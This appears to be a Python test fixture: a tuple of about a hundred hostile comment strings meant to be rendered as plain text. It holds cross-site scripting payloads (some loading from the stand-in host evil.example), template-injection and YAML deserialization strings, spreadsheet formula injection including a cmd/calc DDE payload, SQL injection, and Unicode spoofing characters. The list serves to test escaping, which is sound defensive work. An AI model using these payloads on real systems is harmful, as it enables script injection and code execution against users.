"""A hundred comments by somebody who means harm: to be plain text wherever they are shown, listed or exported."""

from __future__ import annotations

_SCRIPT = "<script>alert(1)</script>"

HOSTILE: tuple[str, ...] = (
    # Elements that run something.
    _SCRIPT, "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\n>alert(1)\n</script\n>", "<script>alert(1)",
    "</script>" + _SCRIPT, "<<script>script>alert(1)<</script>/script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<svg onload="alert(1)">', "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "<svg><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>", '<img src="x` `<script>alert(1)</script>"` `>', "<IMG SRC=javascript:alert('XSS')>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">', "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=lang autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<template shadowrootmode=open><slot></slot></template>", "<plaintext>",
    # Ways out of where it stands.
    "</p></div></li></ol></main></body></html>" + _SCRIPT, "</title><h1>", "</textarea>" + _SCRIPT, "-->" + _SCRIPT,
    "<!--", "<!-- --!>" + _SCRIPT, "]]>" + _SCRIPT, "<![CDATA[" + _SCRIPT + "]]>", "<?php phpinfo(); ?>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>",
    "` onmouseover=`alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "&quot;&gt;<b>", "&amp;lt;b&amp;gt;", "&nosuch; &copy &#0; &#xD800;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞", "<\u200bscript>alert(1)", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\x00",
    # Addresses.
    "javascript:alert(1)", "javascript://evil.example/%0aalert(1)", "JaVa\tScRiPt:alert(1)",
    "data:text/html," + _SCRIPT, 'https://evil.example/"onmouseover="alert(1)', "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/?<b>&lt;&quot;", "http://javascript:alert(1)@evil.example", "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)", "<https://evil.example>", "https://evil.example/\u202egnp.exe",
    # What templates, Markdown, front matter and programs of tables would make something of.
    "{{ 7 * 7 }}", "{% raw %}{{ page }}{% endraw %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %>", "%(number)s %s {0} {number}", "---\ntitle: Mine\nballot: vote\n---\n\nProse.",
    "# Title\n\n* list\n\n> quote\n\n```\ncode\n```", "[^1]\n\n[^1]: note", "| a |\n|---|\n| b |", "!!python/object:os",
    "=1+1", '=HYPERLINK("https://evil.example";"x")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "\t=1+1", '"a","b"\n"c";',
    # What cannot be seen, or seems to be something else.
    "abc\u202efdp.exe\u202c", "\u2066\u2067\u2068" * 50 + "a", "a\u200b\u200c\u200d\u2060\ufeffb", "\ufeff<b>",
    "Z" + "\u0301" * 500, "a\u2028b\u2029c", "\x1b[2J\x1b]0;gone\x07", "\ud7ff\ue000\uf8ff\ufffd\ufffe\uffff",
    "\N{GRINNING FACE}" * 4096, "\N{MAN}\u200d\N{WOMAN}\u200d\N{GIRL}" * 800, "\u0600\u06dd\u070f" * 99,
    "'; DROP TABLE comment; --", "\u1160\u3164\u2800",
)  # fmt: skip
